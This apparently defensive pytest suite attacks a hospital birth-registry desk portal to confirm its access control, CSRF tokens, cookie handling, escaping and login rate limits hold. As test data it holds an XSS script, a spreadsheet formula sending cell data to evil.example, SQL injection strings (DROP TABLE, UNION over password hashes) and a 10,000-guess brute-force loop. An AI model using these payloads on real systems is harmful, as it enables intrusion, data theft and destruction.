"""An attacker's hour against a real server on PostgreSQL: a colleague with a login of their own, and a stranger without one."""

from __future__ import annotations

import io
import re
import statistics
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx2
import openpyxl
import pytest
import sqlalchemy as sa

from tests.portal.conftest import mark_in
from tests.portal.served import COUNTY, DESK, PASSWORD, Served, logged_in, run, sample_county

pytestmark = [pytest.mark.long, pytest.mark.timeout(1200)]
OTHER = f"registration_desk-{COUNTY}002"
SCRIPT, FORMULA = "<script>document['title']='stolen'</script>", '=HYPERLINK("http://evil.example/"&A1,"张")'


def spoilt(folder: Path) -> None:
    """Some registry's clerk typed a script, and another a formula, into names."""
    engine = sa.create_engine(f"sqlite:///{folder / 'hospital.db'}")
    with engine.begin() as connection:
        for name, column in ((SCRIPT, "mother_name"), (FORMULA, "child_name")):
            connection.execute(sa.text(f"UPDATE hospital_birth SET {column} = :name"), {"name": name})


@pytest.fixture(scope="module")
def served(postgres_folder: sa.URL, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with sample_county(postgres_folder, tmp_path_factory.mktemp("attacked"), births=600, spoil=spoilt) as told:
        yield told


@pytest.fixture
def clerk(served: Served, chromium: Any) -> Any:
    return logged_in(served, chromium, "zhang.min", "desk", "--desk", DESK)


def browser_of(served: Served, page: Any) -> httpx2.Client:
    """The clerk's own cookie in a tool that sends what it likes."""
    cookies = {told["name"]: told["value"] for told in page.context.cookies()}
    return httpx2.Client(base_url=served.url, cookies=cookies, follow_redirects=False, timeout=60)


def outcomes(served: Served) -> int:
    return int(served.table("SELECT count(*) AS many FROM outcome")["many"].iloc[0])


def test_ids_of_another_area_open_nothing(served: Served, clerk: Any) -> None:
    mine, tool = set(served.items(DESK)["task_no"]), browser_of(served, clerk)
    theirs = served.table("SELECT task_no, desk FROM task")
    theirs = theirs[~theirs["task_no"].isin(mine)]
    assert len(theirs) > 100
    mark = mark_in(tool.get("/desk").text)
    before = outcomes(served)
    for number in theirs["task_no"].sample(60, random_state=1):
        form = {"form_mark": mark, "code": "A1", "seen": "0"}
        statuses = {tool.get(f"/desk/{number}").status_code, tool.post(f"/desk/{number}", data=form).status_code}
        assert statuses == {404}, number
        assert tool.get(f"/review/{number}").status_code == 404
    for path in ("/month", "/users", "/log", "/contact", "/review", "/users/add", "/log.csv", "/month/2026-10-v1"):
        assert tool.get(path).status_code in (404, 405), path
    assert outcomes(served) == before


def test_a_form_that_is_not_ours_changes_nothing(served: Served, clerk: Any) -> None:
    number, tool = served.items(DESK)["task_no"].iloc[0], browser_of(served, clerk)
    before = outcomes(served)
    forged = [
        {"code": "C1", "seen": "0"},
        {"code": "C1", "seen": "0", "form_mark": ""},
        {"code": "C1", "seen": "0", "form_mark": "x" * 24},
        {"code": "C1", "seen": "0", "form_mark": mark_in(httpx2.get(f"{served.url}/login").text)},
    ]
    assert {tool.post(f"/desk/{number}", data=form).status_code for form in forged} == {403}
    cookies = clerk.context.cookies()
    assert [(told["httpOnly"], told["sameSite"]) for told in cookies if told["name"] == "hedui"] == [(True, "Lax")]
    assert outcomes(served) == before


def test_a_cookie_that_was_copied_is_worth_nothing_after_the_logout(served: Served, chromium: Any) -> None:
    page = logged_in(served, chromium, "li.na", "desk", "--desk", DESK)
    copied = browser_of(served, page)
    assert copied.get("/desk").status_code == 200
    page.click("form[action='/logout'] button")
    page.wait_for_url("**/login")
    assert copied.get("/desk").headers["location"] == "/login"
    spoilt_cookie = httpx2.Client(base_url=served.url, cookies={"hedui": copied.cookies["hedui"][:-3] + "abc"}, follow_redirects=False)
    assert spoilt_cookie.get("/desk").headers["location"] == "/login"


def test_a_script_in_a_name_is_text(served: Served, clerk: Any) -> None:
    items = served.items(DESK)
    number = items.loc[items["mother_name"].eq(SCRIPT), "task_no"].iloc[0]
    asked: list[str] = []
    clerk.on("request", lambda request: asked.append(request.url))
    clerk.goto(f"{served.url}/desk/{number}")
    assert clerk.title() != "stolen"
    assert SCRIPT in clerk.inner_text("main")
    assert all(url.startswith((served.url, "data:")) for url in asked)
    clerk.goto(f"{served.url}/desk/print")
    assert clerk.title() != "stolen"


def test_a_formula_in_a_name_is_text_in_the_workbook(served: Served, clerk: Any) -> None:
    file = browser_of(served, clerk).get("/desk/worklist.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.parametrize(
    "sql", ["' OR 1=1 --", "register'; DROP TABLE task; --", "%", "\u0000", "register) UNION SELECT password_hash FROM portal_user --"]
)
def test_sql_in_a_filter_is_no_filter(served: Served, clerk: Any, sql: str) -> None:
    tool = browser_of(served, clerk)
    for params in ({"sheet": sql}, {"state": sql}, {"at": sql}, {"overdue": sql}):
        assert tool.get("/desk", params=params).status_code == 422, params
    assert tool.get("/desk/find", params={"task_no": sql}).status_code in (303, 422)
    assert served.table("SELECT count(*) AS many FROM task")["many"].iloc[0] > 100


def test_ten_thousand_logins_let_nobody_in_and_nobody_out(served: Served, chromium: Any) -> None:
    """A stranger tries ten thousand passwords, a thousand of them on one account; the others work on meanwhile."""
    worker = browser_of(served, logged_in(served, chromium, "wang.wu", "desk", "--desk", DESK))
    statuses: Counter[int] = Counter()
    waited: list[float] = []

    def attempts(thread: int) -> None:
        with httpx2.Client(base_url=served.url, follow_redirects=False, timeout=120) as stranger:
            mark = mark_in(stranger.get("/login").text)
            for number in range(1250):
                name = "zhang.min" if number % 10 == 0 else f"clerk{thread}.{number}"
                form = {"form_mark": mark, "user_id": name, "password": f"guess-{thread}-{number}"}
                statuses[stranger.post("/login", data=form).status_code] += 1

    with ThreadPoolExecutor(8) as pool:
        running = [pool.submit(attempts, thread) for thread in range(8)]
        while not all(told.done() for told in running):
            started = time.perf_counter()
            assert worker.get("/desk").status_code == 200
            waited.append(time.perf_counter() - started)
            time.sleep(0.5)
        for told in running:
            told.result()
    assert sum(statuses.values()) == 10_000
    assert set(statuses) <= {401, 429}, statuses
    assert statuses[429] > 9_000
    assert statistics.median(waited) < 2
    print(
        f"10,000 attempts: {dict(statuses)}; a clerk's page meanwhile: median {statistics.median(waited) * 1e3:.0f} ms, {max(waited):.1f} s at most"
    )
    told = run(served.environment | {"HEDUI_DATABASE_ROLE": "accounts"}, "user", "list", "--json")
    assert not re.search(PASSWORD, told)
